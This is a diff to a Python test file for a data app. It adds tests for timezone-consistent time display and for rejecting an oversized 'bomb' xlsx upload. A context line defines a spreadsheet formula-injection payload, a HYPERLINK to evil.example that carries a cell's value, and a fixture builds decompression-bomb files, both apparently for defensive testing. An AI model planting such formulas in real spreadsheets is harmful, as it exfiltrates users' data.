@@ -7,6 +7,7 @@ characters, /overview accepted, and every slider's and box's bounds accepted in 
 from __future__ import annotations
 
 import csv
+import functools
 import io
 import json
 
@@ -14,7 +15,8 @@ import pytest
 from openpyxl import Workbook, load_workbook
 
 import exports
-from bench.upload_bomb import xlsx_rows_bomb, xlsx_wide_bomb, xlsx_with_sheet
+from bench.upload_bomb import xlsx_rows_bomb as _rows_bomb
+from bench.upload_bomb import xlsx_wide_bomb, xlsx_with_sheet
 from model import limits
 from model.__main__ import main
 from model.cells import csv_text, csv_unescape
@@ -27,6 +29,7 @@ from model.template import (
     write_template,
 )
 
+xlsx_rows_bomb = functools.cache(_rows_bomb)  # built once for the tests that use it
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
@@ -382,3 +385,26 @@ def test_names_that_look_the_same_are_the_same_name(tmp_path):
     store.save("书记 方案", "fai=20", "v")
     with pytest.raises(ValueError, match="already saved"):
         store.save("书记\u00a0方案", "fai=30", "v")
+
+
+def test_a_stored_time_is_shown_the_same_from_sqlite_and_postgresql():
+    from datetime import UTC, datetime, timedelta, timezone
+
+    from ui.datapage import shown_time
+
+    naive_utc = datetime(2021, 7, 20, 1, 30)  # how SQLite hands it back
+    aware = datetime(2021, 7, 20, 3, 30, tzinfo=timezone(timedelta(hours=2)))  # a PG session
+    assert shown_time(naive_utc) == shown_time(aware) == "2021-07-20 09:30"
+    assert shown_time(naive_utc.replace(tzinfo=UTC)) == "2021-07-20 09:30"
+
+
+def test_the_data_page_refuses_a_bomb_with_one_line_and_keeps_the_data(make_app, ds):
+    at = make_app(page="app_pages/data.py")
+    at.file_uploader(key="data_upload").upload(
+        "bomb.xlsx", xlsx_rows_bomb(1_000_000), "application/octet-stream"
+    ).run()
+    assert not at.exception
+    assert len(at.error) == 1
+    assert "XLSX 文件解压后过大（24.8 MB，上限 8 MB）" in at.error[0].value
+    assert at.query_params.get("data") in (None, ds.data_id, [ds.data_id])
+    assert "data_apply" not in [b.key for b in at.button]
